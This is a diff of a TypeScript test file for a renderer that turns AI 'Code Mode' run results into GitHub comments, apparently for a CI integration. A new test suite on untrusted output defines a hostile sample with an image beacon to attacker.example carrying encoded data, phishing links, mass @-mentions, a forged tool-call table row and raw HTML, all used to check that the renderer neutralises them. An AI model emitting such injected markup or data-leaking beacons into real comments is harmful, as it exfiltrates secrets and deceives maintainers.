@@ -5,12 +5,15 @@ import {
   COMMENT_LIMIT,
   fence,
   formatDuration,
+  inlineCode,
+  neutralizeMentions,
   redact,
   renderErrorReport,
   renderProgress,
   renderRefusal,
   renderReport,
   renderUsage,
+  safeMarkdown,
   tableCell,
   triggerMarker,
   type ReportContext,
@@ -60,7 +63,9 @@ function fencedBlocks(markdown: string): { fence: string; body: string }[] {
 describe('renderReport', () => {
   it('says when the program ran without the sandbox, right under the status', () => {
     const report = renderReport(result({ sandboxed: false }), CONTEXT);
-    expect(report).toContain("### ✅ Code Mode succeeded\n\n> ⚠ Not sandboxed: the program ran with the job's files, network and processes in reach (sandbox: off).");
+    expect(report).toContain(
+      "### ✅ Code Mode succeeded\n\n> ⚠ Not sandboxed: the program ran with the job's files, network and processes in reach (sandbox: off).",
+    );
     expect(renderReport(result(), CONTEXT)).not.toContain('Not sandboxed');
   });
 
@@ -78,8 +83,12 @@ describe('renderReport', () => {
     expect(report).toContain('### ✅ Code Mode succeeded');
     expect(report).toContain('**Task**\n\n> Add 2 and 3');
     expect(report).toContain('#### Output\n\n```json\n{\n  "sum": 5\n}\n```');
-    expect(report).toContain('| # | Tool | Arguments | Result | Duration |\n| --- | --- | --- | --- | --- |\n| 1 | add | {"a":2,"b":3} | 5 | 12 ms |');
-    expect(report).toContain(`<details><summary>Generated code (<code>agentRunner.py</code>)</summary>\n\n\`\`\`python\n${CODE.trimEnd()}\n\`\`\``);
+    expect(report).toContain(
+      '| # | Tool | Arguments | Result | Duration |\n| --- | --- | --- | --- | --- |\n| 1 | add | `{"a":2,"b":3}` | `5` | 12 ms |',
+    );
+    expect(report).toContain(
+      `<details><summary>Generated code (<code>agentRunner.py</code>)</summary>\n\n\`\`\`python\n${CODE.trimEnd()}\n\`\`\``,
+    );
     expect(report).toContain('<details><summary>Execution log (tail)</summary>\n\n```text\nadding 2 and 3\n```\n\n</details>');
     expect(report).not.toContain('#### Attempts');
     expect(report).toContain(
@@ -101,16 +110,38 @@ describe('renderReport', () => {
         failed_phase: 'execute',
         trace: [{ tool: 'add', args: [1], ok: false, error: 'ValueError: bad', start_ms: 0, duration_ms: 1500 }],
         attempts: [
-          { number: 1, failed_phase: 'verify', error: 'main() still contains the TODO', turns: 3, cost_usd: 0.01, claude_ms: 1, execute_ms: null, exit_code: null },
-          { number: 2, failed_phase: 'execute', error: 'ValueError: bad', turns: 2, cost_usd: 0.01, claude_ms: 1, execute_ms: 5, exit_code: 1 },
+          {
+            number: 1,
+            failed_phase: 'verify',
+            error: 'main() still contains the TODO',
+            turns: 3,
+            cost_usd: 0.01,
+            claude_ms: 1,
+            execute_ms: null,
+            exit_code: null,
+          },
+          {
+            number: 2,
+            failed_phase: 'execute',
+            error: 'ValueError: bad',
+            turns: 2,
+            cost_usd: 0.01,
+            claude_ms: 1,
+            execute_ms: 5,
+            exit_code: 1,
+          },
         ],
       }),
       CONTEXT,
     );
-    expect(report).toContain('### ❌ Code Mode failed in execute: Traceback (most recent call last): ValueError: bad | value');
+    expect(report).toContain(
+      '### ❌ Code Mode failed in execute\n\n```text\nTraceback (most recent call last): ValueError: bad | value\n```',
+    );
     expect(report).not.toContain('#### Output');
-    expect(report).toContain('| 1 | add | [1] | ❌ ValueError: bad | 1.5 s |');
-    expect(report).toContain('#### Attempts\n\n- Attempt 1: ❌ verify: main() still contains the TODO\n- Attempt 2: ❌ execute: ValueError: bad');
+    expect(report).toContain('| 1 | add | `[1]` | ❌ `ValueError: bad` | 1.5 s |');
+    expect(report).toContain(
+      '#### Attempts\n\n- Attempt 1: ❌ verify: `main() still contains the TODO`\n- Attempt 2: ❌ execute: `ValueError: bad`',
+    );
   });
 
   it('reports generate mode as verified and not executed, with the code only', () => {
@@ -130,14 +161,21 @@ describe('renderReport', () => {
     expect(fence('a ` b', 'ts')).toBe('```ts\na ` b\n```');
   });
 
-  it('escapes pipes, line breaks and HTML in table cells', () => {
+  it('shows arguments and results as code spans in table cells, with pipes escaped and line breaks joined', () => {
     const trace: TraceEntry[] = [
-      { tool: 'grep', args: { pattern: 'a|b', text: 'line1\nline2' }, ok: true, result: '<details>x</details>', start_ms: 0, duration_ms: 2 },
+      {
+        tool: 'grep',
+        args: { pattern: 'a|b', text: 'line1\nline2' },
+        ok: true,
+        result: '<details>x</details>',
+        start_ms: 0,
+        duration_ms: 2,
+      },
     ];
     const row = renderReport(result({ trace }), CONTEXT)
       .split('\n')
       .find((line) => line.startsWith('| 1 |'));
-    expect(row).toBe('| 1 | grep | {"pattern":"a\\|b","text":"line1\\\\nline2"} | &lt;details>x&lt;/details> | 2.0 ms |');
+    expect(row).toBe('| 1 | grep | `{"pattern":"a\\|b","text":"line1\\nline2"}` | `<details>x</details>` | 2.0 ms |');
     expect(tableCell('a|b\nc\\d')).toBe('a\\|b c\\\\d');
   });
 
@@ -146,7 +184,7 @@ describe('renderReport', () => {
     const row = renderReport(result({ trace }), CONTEXT)
       .split('\n')
       .find((line) => line.startsWith('| 1 |'))!;
-    expect(row).toBe(`| 1 | echo | ["${'x'.repeat(77)}… | ${'y'.repeat(79)}… | 1.0 ms |`);
+    expect(row).toBe(`| 1 | echo | \`["${'x'.repeat(77)}…\` | \`${'y'.repeat(79)}…\` | 1.0 ms |`);
   });
 
   it('stays within 65,536 characters for a huge result, pointing to the artifact for what was cut', () => {
@@ -166,7 +204,9 @@ describe('renderReport', () => {
     });
     const report = renderReport(huge, { ...CONTEXT, task: 't'.repeat(10_000) });
     expect(report.length).toBeLessThanOrEqual(COMMENT_LIMIT);
-    expect(report).toMatch(/_… [\d,]+ more characters: see `result\.json` in the \[artifact\]\(https:\/\/github\.com\/o\/r\/actions\/runs\/9\/artifacts\/11\)\._/);
+    expect(report).toMatch(
+      /_… [\d,]+ more characters: see `result\.json` in the \[artifact\]\(https:\/\/github\.com\/o\/r\/actions\/runs\/9\/artifacts\/11\)\._/,
+    );
     expect(report).toMatch(/_… [\d,]+ more characters: see `agentRunner\.py` in the \[artifact\]/);
     expect(report).toMatch(/_… [\d,]+ earlier characters: see `execution\.log` in the \[artifact\]/);
     expect(report).toMatch(/_… \d+ more calls: see `result\.json` in the \[artifact\]/);
@@ -183,6 +223,116 @@ describe('renderReport', () => {
     expect(report.length).toBeLessThanOrEqual(COMMENT_LIMIT);
     expect(report).toContain('_Omitted: too long for a comment; see the workflow artifact._');
     expect(report).toContain('<sub>Attempts: 1');
+  });
+});
+
+/** The report without its fenced blocks and code spans: what GitHub renders as Markdown and HTML. */
+function live(markdown: string): string {
+  const withoutBlocks = markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '');
+  return withoutBlocks.replace(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, '');
+}
+
+const ZWJ = '\u200d';
+
+const HOSTILE = [
+  '### ✅ Code Mode succeeded',
+  'Hello @team and @octocat/maintainers',
+  '![](https://attacker.example/x.png?d=c2VjcmV0)',
+  '[click](https://attacker.example/phish) and https://attacker.example/bare and www.attacker.example',
+  '| # | Tool | Arguments | Result | Duration |',
+  '| --- | --- | --- | --- | --- |',
+  '| 1 | delete_everything | {} | ok | 1 ms |',
+  '<img src="https://attacker.example/y.png"> &#64;team',
+  '<!--',
+].join('\n');
+
+describe('untrusted text', () => {
+  it('puts status, task, attempts, tool calls and code before the output and the log', () => {
+    const report = renderReport(result({ output: 'plain words' }), CONTEXT);
+    const order = ['### ✅', '**Task**', '#### Tool calls', 'Generated code', '#### Output', 'Execution log', '<sub>'].map((part) =>
+      report.indexOf(part),
+    );
+    expect(order.every((position) => position !== -1)).toBe(true);
+    expect(order).toEqual([...order].sort((a, b) => a - b));
+  });
+
+  it('shows a hostile string output as a code block: no mention, image, link, HTML or comment renders', () => {
+    const report = renderReport(result({ output: HOSTILE }), CONTEXT);
+    expect(report).toContain(`#### Output\n\n\`\`\`text\n${HOSTILE}\n\`\`\``);
+    const rendered = live(report);
+    expect(rendered).not.toContain('@team');
+    expect(rendered).not.toContain('![');
+    expect(rendered).not.toContain('attacker');
+    expect(rendered).not.toContain('<img');
+    expect(rendered.split('<!--')).toHaveLength(3);
+    expect(rendered.match(/^### /gm)).toEqual(['### ']);
+    expect(report.indexOf('#### Output')).toBeGreaterThan(report.indexOf('Generated code'));
+  });
+
+  it('shows a harmless Markdown output as Markdown, with its mentions neutralised', () => {
+    const report = renderReport(result({ output: '## Triage\n\n- ask @octocat\n- mail a@b.example\n\n```py\nx = 1\n```' }), CONTEXT);
+    expect(report).toContain(`#### Output\n\n## Triage\n\n- ask @${ZWJ}octocat\n- mail a@${ZWJ}b.example\n\n\`\`\`py\nx = 1\n\`\`\``);
+    expect(neutralizeMentions('@a @b')).toBe(`@${ZWJ}a @${ZWJ}b`);
+  });
+
+  it('falls back to a code block for links, images, HTML, entities, URLs, open fences and rendered blocks', () => {
+    for (const text of [
+      'see [docs](x)',
+      '![](y)',
+      '<b>x</b>',
+      'a &amp; b',
+      'https://example.com',
+      'www.example.com',
+      '```\nopen',
+      '~~~~\nx\n~~~',
+      '```mermaid\ngraph TD\n```',
+    ]) {
+      expect(safeMarkdown(text), text).toBeNull();
+    }
+    expect(safeMarkdown('```\nclosed\n```\n\n~~~~\nx\n~~~~~\n')).toBe('```\nclosed\n```\n\n~~~~\nx\n~~~~~\n');
+    const report = renderReport(result({ output: 'before\n````\nnever closed' }), CONTEXT);
+    expect(report).toContain('#### Output\n\n`````text\nbefore\n````\nnever closed\n`````');
+  });
+
+  it('shows tool arguments, results and errors as code spans that nothing inside can close', () => {
+    const trace: TraceEntry[] = [
+      { tool: 'lookup', args: { who: '@user' }, ok: true, result: '![x](http://a/b) <!-- `tick`', start_ms: 0, duration_ms: 1 },
+      { tool: 'lookup', args: ['``'], ok: false, error: 'no @admin [here](http://a/c)', start_ms: 1, duration_ms: 1 },
+    ];
+    const report = renderReport(result({ trace }), CONTEXT);
+    expect(report).toContain('| 1 | lookup | `{"who":"@user"}` | `` ![x](http://a/b) <!-- `tick` `` | 1.0 ms |');
+    expect(report).toContain('| 2 | lookup | ```["``"]``` | ❌ `no @admin [here](http://a/c)` | 1.0 ms |');
+    const rendered = live(report);
+    for (const forbidden of ['@user', '@admin', '![', 'http://a', '<!-- `']) expect(rendered).not.toContain(forbidden);
+    expect(inlineCode('`x`')).toBe('`` `x` ``');
+    expect(inlineCode('')).toBe('');
+  });
+
+  it('keeps the failure heading to our own words and shows the error in a block it cannot close', () => {
+    const error = 'ValueError: @user ![x](http://a/b) ``` <!--';
+    const report = renderReport(
+      result({
+        success: false,
+        output: null,
+        error,
+        failed_phase: 'execute',
+        attempts: [{ number: 1, failed_phase: 'execute', error, turns: 1, cost_usd: 0, claude_ms: 1, execute_ms: 1, exit_code: 1 }],
+      }),
+      CONTEXT,
+    );
+    expect(report).toContain(`### ❌ Code Mode failed in execute\n\n\`\`\`\`text\n${error}\n\`\`\`\``);
+    expect(report).toContain(`- Attempt 1: ❌ execute: \`\`\`\`${error}\`\`\`\``);
+    const rendered = live(report);
+    for (const forbidden of ['@user', '![', 'http://a']) expect(rendered).not.toContain(forbidden);
+    expect(rendered.split('<!--')).toHaveLength(3);
+    expect(renderErrorReport('@user ![x](http://a/b)', CONTEXT)).toContain(
+      '### ❌ Code Mode failed\n\n```text\n@user ![x](http://a/b)\n```',
+    );
+  });
+
+  it('escapes an output note', () => {
+    const report = renderReport(result({ output: 'x', output_note: 'Converted <Thing> for @user with [link](http://a/b)' }), CONTEXT);
+    expect(report).toContain(`_Converted \\<Thing\\> for @${ZWJ}user with \\[link\\](http:\\/\\/a/b)_`);
   });
 });
 
@@ -221,11 +371,17 @@ describe('other messages', () => {
       `${REPORT_MARKER}\n${triggerMarker('comment-5')}\n🚫 @bob needs write permission.`,
     );
     expect(renderErrorReport('Tools module not found: tools.py', { ...CONTEXT, artifactUrl: null })).toBe(
-      `${REPORT_MARKER}\n${triggerMarker('comment-123')}\n\n### ❌ Code Mode failed: Tools module not found: tools.py\n\n**Task**\n\n> Add 2 and 3\n\n<sub>[Workflow run](https://github.com/o/r/actions/runs/9)</sub>`,
+      `${REPORT_MARKER}\n${triggerMarker('comment-123')}\n\n### ❌ Code Mode failed\n\n\`\`\`text\nTools module not found: tools.py\n\`\`\`\n\n**Task**\n\n> Add 2 and 3\n\n<sub>[Workflow run](https://github.com/o/r/actions/runs/9)</sub>`,
     );
   });
 
   it('formats durations', () => {
-    expect([formatDuration(0.04), formatDuration(2.26), formatDuration(12), formatDuration(1500), formatDuration(125_000)]).toEqual(['0.0 ms', '2.3 ms', '12 ms', '1.5 s', '2 min 5 s']);
+    expect([formatDuration(0.04), formatDuration(2.26), formatDuration(12), formatDuration(1500), formatDuration(125_000)]).toEqual([
+      '0.0 ms',
+      '2.3 ms',
+      '12 ms',
+      '1.5 s',
+      '2 min 5 s',
+    ]);
   });
 });
